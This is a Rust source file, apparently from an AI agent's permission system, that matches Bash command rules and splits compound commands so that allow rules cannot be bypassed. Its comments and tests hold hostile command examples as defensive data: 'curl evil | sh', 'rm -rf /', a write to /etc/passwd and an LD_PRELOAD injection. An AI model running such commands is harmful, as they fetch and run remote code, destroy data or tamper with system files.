//! `Bash(…)` rules: exact commands, `prefix:*`, and `*` wildcards.
//!
//! The danger with command rules is a compound command: `Bash(npm test:*)`
//! must not allow `npm test && curl evil | sh`. So a command is first split
//! into its simple commands, and rules are matched against each part, never
//! against the compound text with a wildcard. Splitting has two flavours:
//! - the real parse (the same bash parser the Bash tool uses); only it may
//!   *allow*, and if it fails nothing is allowed part by part;
//! - a crude split on every operator character, used only to look for
//!   *deny* and *ask* matches. It over-splits (quotes are ignored), which can
//!   only find more denials, never fewer.

use regex::Regex;

use baton_shell::Construct;

/// A parsed command specifier.
#[derive(Clone, Debug)]
pub(crate) struct CommandPattern {
    kind: Kind,
}

#[derive(Clone, Debug)]
enum Kind {
    /// `Bash(*)`: every command.
    Any,
    /// No wildcard: the whole simple command, whitespace-insensitive.
    Exact(String),
    /// `prefix:*`, `…*…`: an anchored regex.
    Wildcard(Regex),
}

impl CommandPattern {
    pub(crate) fn parse(spec: &str) -> Result<CommandPattern, String> {
        let spec = spec.trim();
        if spec.is_empty() {
            return Err("empty command pattern (write `Bash` to name every command)".into());
        }
        // `npm run:*` is the older spelling of `npm run *`.
        let spec = match spec.strip_suffix(":*") {
            Some(prefix) => format!("{} *", prefix.trim_end()),
            None => spec.to_string(),
        };
        if spec.contains(":*") {
            return Err("`:*` may only end a command pattern, as in `Bash(npm run:*)`".into());
        }
        let trimmed = spec.trim();
        if trimmed.chars().all(|c| c == '*' || c.is_whitespace()) {
            return Ok(CommandPattern { kind: Kind::Any });
        }
        if !trimmed.contains('*') {
            return Ok(CommandPattern {
                kind: Kind::Exact(words(trimmed)),
            });
        }
        // A trailing ` *` is a prefix with a word boundary, and also matches
        // the bare prefix: `ls *` covers `ls` and `ls -la`, not `lsof`.
        let regex = match trimmed.strip_suffix('*') {
            Some(head) if head.ends_with(char::is_whitespace) => {
                format!("^{}(?:\\s.*)?$", wildcard_regex(head.trim_end()))
            }
            _ => format!("^{}$", wildcard_regex(trimmed)),
        };
        let regex = Regex::new(&format!("(?s){regex}"))
            .map_err(|e| format!("cannot compile the command pattern: {e}"))?;
        Ok(CommandPattern {
            kind: Kind::Wildcard(regex),
        })
    }

    /// Whether an allow rule covers this text: as [`matches`](Self::matches),
    /// except that no text spanning a newline is ever matched (a newline
    /// separates commands, so `echo⏎touch F` is not `echo touch F`).
    pub(crate) fn allows(&self, command: &str) -> bool {
        match &self.kind {
            Kind::Any => true,
            _ => !command.trim().contains(['\n', '\r']) && self.matches(command),
        }
    }

    /// Whether one simple command (or a whole command text) matches, for
    /// deny and ask lookups, where matching more only makes things stricter.
    pub(crate) fn matches(&self, command: &str) -> bool {
        let command = command.trim();
        match &self.kind {
            Kind::Any => true,
            Kind::Exact(text) => words(command) == *text,
            Kind::Wildcard(re) => re.is_match(command),
        }
    }

    /// Exact patterns may match a whole compound command as written: the
    /// user spelled out every part.
    pub(crate) fn is_exact(&self) -> bool {
        matches!(self.kind, Kind::Exact(_))
    }

    pub(crate) fn is_any(&self) -> bool {
        matches!(self.kind, Kind::Any)
    }
}

/// Whitespace runs folded to one space, so `npm  test` is `npm test`.
fn words(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

fn wildcard_regex(pattern: &str) -> String {
    let mut out = String::new();
    let mut chars = pattern.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '*' {
            out.push_str(".*");
        } else if c.is_whitespace() {
            while chars.peek().is_some_and(|n| n.is_whitespace()) {
                chars.next();
            }
            out.push_str("\\s+");
        } else {
            out.push_str(&regex::escape(c.encode_utf8(&mut [0; 4])));
        }
    }
    out
}

/// One simple command of a compound command.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Part {
    /// As written, with prefix assignments and redirections.
    pub text: String,
    /// Just the command words: what rules are compared with.
    pub line: String,
    /// `NAME=value` prefixes change what a command does (`PATH=…`,
    /// `LD_PRELOAD=…`), so only a rule spelling them out may allow it.
    pub has_assignments: bool,
    /// The shell classifier says it has no side effects.
    pub read_only: bool,
    /// The parsed command, for resolving where it reaches (`reach.rs`).
    pub command: baton_shell::SimpleCommand,
    /// Other spellings of the same command, for deny and ask lookups: after
    /// quote removal, with `git`'s global options dropped.
    pub forms: Vec<String>,
    /// The commands this one runs: a wrapper's command (`timeout 5 cmd`),
    /// a literal `bash -c`/`eval` payload, `find -exec`.
    pub inner: Vec<Part>,
    /// Part of what this command runs is not in the text.
    pub opaque: bool,
}

impl Part {
    /// Whether the allow patterns cover this part. A wrapper matched by a
    /// wildcard rule (`Bash(timeout:*)`) is allowed only if what it runs is
    /// allowed too; an exact rule spelled the whole command out.
    pub(crate) fn allowed_by_any(&self, patterns: &[&CommandPattern]) -> bool {
        let written = |p: &&&CommandPattern| {
            (!self.has_assignments && p.allows(&self.line)) || p.allows(&self.text)
        };
        match patterns.iter().find(written) {
            None => false,
            Some(p) if p.is_exact() => true,
            Some(_) => {
                !self.opaque
                    && self
                        .inner
                        .iter()
                        .all(|i| i.read_only || i.allowed_by_any(patterns))
            }
        }
    }

    pub(crate) fn all(&self) -> Box<dyn Iterator<Item = &Part> + '_> {
        Box::new(std::iter::once(self).chain(self.inner.iter().flat_map(Part::all)))
    }
}

/// A command seen three ways, for the three kinds of rule lookups.
#[derive(Clone, Debug)]
pub(crate) struct CommandParts {
    pub whole: String,
    /// The parser's simple commands; `None` when the command did not parse
    /// (or writes files through redirections, which no command rule covers).
    pub parsed: Option<Vec<Part>>,
    /// Over-split pieces, for deny and ask lookups only.
    pub crude: Vec<String>,
    /// Every simple command the parser found, even when `parsed` is `None`.
    seen: Vec<Part>,
}

impl CommandParts {
    pub(crate) fn new(command: &str) -> CommandParts {
        let (parsed, seen, complete) = parse_parts(command);
        CommandParts {
            whole: command.trim().to_string(),
            parsed,
            // With a complete parse the parts are exactly what runs; the
            // crude split would only add false matches inside quotes.
            crude: if complete {
                Vec::new()
            } else {
                crude_split(command)
            },
            seen,
        }
    }

    /// Every simple command the parser found (with the commands they
    /// run), even when the parse was incomplete.
    pub(crate) fn every_command(&self) -> Vec<&baton_shell::SimpleCommand> {
        self.seen
            .iter()
            .flat_map(Part::all)
            .map(|p| &p.command)
            .collect()
    }

    /// Every text a deny or ask rule should be tried against.
    pub(crate) fn suspects(&self) -> impl Iterator<Item = &str> {
        std::iter::once(self.whole.as_str())
            .chain(self.seen.iter().flat_map(Part::all).flat_map(|p| {
                [p.text.as_str(), p.line.as_str()]
                    .into_iter()
                    .chain(p.forms.iter().map(String::as_str))
            }))
            .chain(self.crude.iter().map(String::as_str))
    }

    /// Why deny or ask rules cannot be checked: some command runs something
    /// the text does not show (`bash -c "$X"`, `xargs`, `$CMD`). `None`
    /// when everything that runs is known, or when no rule could care.
    pub(crate) fn opaque_for<'r>(
        &self,
        mut patterns: impl Iterator<Item = &'r CommandPattern>,
    ) -> Option<String> {
        if !patterns.any(|p| !p.is_any()) {
            return None;
        }
        if self.seen.is_empty() && !self.whole.is_empty() {
            return Some("the command could not be parsed, so deny and ask rules cannot be checked against every command in it".into());
        }
        let hidden = self.seen.iter().flat_map(Part::all).find(|p| p.opaque)?;
        Some(format!(
            "`{}` runs a command that is not written out (a variable, a non-literal payload, or arguments read from input), so deny and ask rules cannot be checked against it",
            super::summary::first_line(&hidden.text, 80)
        ))
    }
}

/// Operator characters: anything after one of these may be another command.
const OPERATORS: &[char] = &[';', '&', '|', '\n', '(', ')', '`', '<', '>', '{', '}'];

fn crude_split(command: &str) -> Vec<String> {
    command
        .replace("$(", "\n")
        .split(OPERATORS)
        .map(str::trim)
        .filter(|s| !s.is_empty())
        .map(str::to_string)
        .collect()
}

/// The simple commands of `command` with the Bash tool's parser. Parts may
/// be allowed one by one only if the parse is complete: a syntax the walk
/// does not understand might hide a command, and a redirection writing a
/// file is a write no command rule speaks for.
fn parse_parts(command: &str) -> (Option<Vec<Part>>, Vec<Part>, bool) {
    let Ok(script) = baton_shell::parse(command) else {
        return (None, Vec::new(), false);
    };
    let incomplete = script
        .constructs()
        .iter()
        .any(|c| matches!(c, Construct::Unsupported(_) | Construct::TooDeep));
    let writes = script.redirects().iter().any(|r| r.writes_file());
    // `cd` is harmless alone but not beside `git`: it must then be allowed
    // by a rule like any other command.
    let cd_with_git = baton_shell::cd_combined_with_git(&script);
    let parts: Vec<Part> = script
        .commands()
        .iter()
        .map(|c| {
            let mut part = part(c, 0);
            part.read_only &= !(writes || (cd_with_git && baton_shell::is_directory_change(c)));
            part
        })
        .collect();
    let usable = !incomplete && !writes && !parts.is_empty();
    (
        usable.then(|| parts.clone()),
        parts,
        !incomplete && !script.commands().is_empty(),
    )
}

/// One simple command, with the commands it runs (to a bounded depth).
fn part(c: &baton_shell::SimpleCommand, depth: usize) -> Part {
    let inner = if depth < 8 {
        baton_shell::wrappers::inner(c, depth)
    } else {
        baton_shell::wrappers::Inner {
            commands: Vec::new(),
            opaque: true,
        }
    };
    let line = c.command_line();
    let mut forms = Vec::new();
    let literal: Vec<&str> = c
        .words()
        .iter()
        .map(|w| w.literal().unwrap_or(w.source()))
        .collect();
    forms.push(literal.join(" "));
    // `/usr/bin/git push` is `git push`.
    if let Some((first, rest)) = literal.split_first() {
        if let Some((_, base)) = first.rsplit_once('/') {
            forms.push(
                std::iter::once(base)
                    .chain(rest.iter().copied())
                    .collect::<Vec<_>>()
                    .join(" "),
            );
        }
    }
    let mut opaque = inner.opaque;
    match baton_shell::wrappers::git_normalized(c) {
        Some(Ok(words)) => forms.push(words.join(" ")),
        Some(Err(())) => opaque = true,
        None => {}
    }
    forms.retain(|f| *f != line);
    forms.dedup();
    Part {
        text: c.text().trim().to_string(),
        line,
        has_assignments: !c.assignments().is_empty(),
        read_only: baton_shell::is_read_only(c.text()),
        command: c.clone(),
        forms,
        inner: inner.commands.iter().map(|i| part(i, depth + 1)).collect(),
        opaque,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn m(pattern: &str, command: &str) -> bool {
        CommandPattern::parse(pattern).unwrap().matches(command)
    }

    #[test]
    fn exact_prefix_and_wildcards() {
        assert!(m("npm test", "npm test"));
        assert!(m("npm test", "  npm   test "));
        assert!(!m("npm test", "npm test --watch"));
        assert!(m("npm run:*", "npm run"));
        assert!(m("npm run:*", "npm run build"));
        assert!(!m("npm run:*", "npm runx"));
        assert!(m("ls *", "ls -la"));
        assert!(!m("ls *", "lsof"));
        assert!(m("ls*", "lsof"));
        assert!(m("git * main", "git push origin main"));
        assert!(!m("git * main", "git push origin main2"));
        assert!(m("*", "anything at all"));
        assert!(m("* --version", "node --version"));
        assert!(!m("a.b", "aXb"));
    }

    #[test]
    fn malformed_patterns_are_errors() {
        assert!(CommandPattern::parse("").is_err());
        assert!(CommandPattern::parse("npm:* run").is_err());
    }

    #[test]
    fn crude_split_over_splits() {
        let parts = CommandParts::new("npm test && echo 'a;b' | rm -rf / $(curl x) && (");
        let crude: Vec<&str> = parts.crude.iter().map(String::as_str).collect();
        assert!(crude.contains(&"rm -rf /"));
        assert!(crude.contains(&"curl x"));
        assert!(parts.parsed.is_none());
        let parts = CommandParts::new("npm test && echo 'a;b' | rm -rf / $(curl x)");
        assert!(parts.crude.is_empty());
        let lines: Vec<String> = parts.parsed.unwrap().into_iter().map(|p| p.line).collect();
        assert!(lines.contains(&"curl x".to_string()), "{lines:?}");
        assert!(lines.contains(&"npm test".to_string()), "{lines:?}");
    }

    #[test]
    fn writes_and_unparseable_lines_are_not_split_for_allowing() {
        assert!(CommandParts::new("npm test > /etc/passwd").parsed.is_none());
        assert!(CommandParts::new("npm test 2>/dev/null").parsed.is_some());
        let broken = CommandParts::new("npm test && (rm -rf x");
        assert!(broken.parsed.is_none());
        assert!(broken.suspects().any(|s| s == "rm -rf x"));
        let env = CommandParts::new("LD_PRELOAD=/x.so npm test");
        let part = &env.parsed.unwrap()[0];
        assert!(!part.allowed_by_any(&[&CommandPattern::parse("npm test").unwrap()]));
        assert!(
            part.allowed_by_any(&[&CommandPattern::parse("LD_PRELOAD=/x.so npm test").unwrap()])
        );
    }
}
